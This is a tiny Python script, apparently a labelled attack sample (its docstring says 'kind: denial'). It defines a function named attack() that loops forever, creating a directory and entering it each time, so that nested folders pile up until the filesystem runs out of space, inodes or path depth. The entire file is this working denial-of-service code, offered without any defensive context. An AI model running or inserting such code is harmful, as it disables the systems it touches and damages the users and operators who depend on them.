"""Makes folders in folders.

kind: denial
"""

import os
def attack():
    while True:
        os.mkdir('d'); os.chdir('d')
